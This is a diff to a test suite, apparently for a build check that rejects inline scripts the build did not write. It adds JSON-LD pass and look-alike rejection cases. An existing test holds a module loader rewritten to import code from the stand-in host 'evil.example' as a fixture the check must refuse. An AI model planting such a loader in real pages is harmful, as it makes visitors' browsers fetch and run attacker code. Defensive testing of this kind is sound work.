@@ -61,6 +61,21 @@ describe("the build's inline scripts", () => {
     );
   });
 
+  it("passes JSON-LD without a hash, and refuses a script that only looks like it", async () => {
+    const structuredData = `<script type="application/ld+json">{"@type":"Thing"}</script>`;
+    expect(inlineScriptHashes(structuredData)).toEqual([]);
+    await expect(
+      refuseUnknownInlineScripts(await buildWith({ "index.html": structuredData })),
+    ).resolves.toBeUndefined();
+    for (const script of [
+      `<script data-type="application/ld+json">window.x=1</script>`,
+      `<script type="application/ld+json">window.x=1</script>`,
+    ])
+      await expect(refuseUnknownInlineScripts(await buildWith({ "index.html": script })), script).rejects.toThrowError(
+        /index\.html: an inline script the build did not write: "window\.x=1"/,
+      );
+  });
+
   it("refuses a module script other than the site's loader", async () => {
     const page = `<script type="module">${moduleLoader.replace('import("/assets/entry', 'import("https://evil.example/entry')}</script>`;
     await expect(refuseUnknownInlineScripts(await buildWith({ "index.html": page }))).rejects.toThrowError(
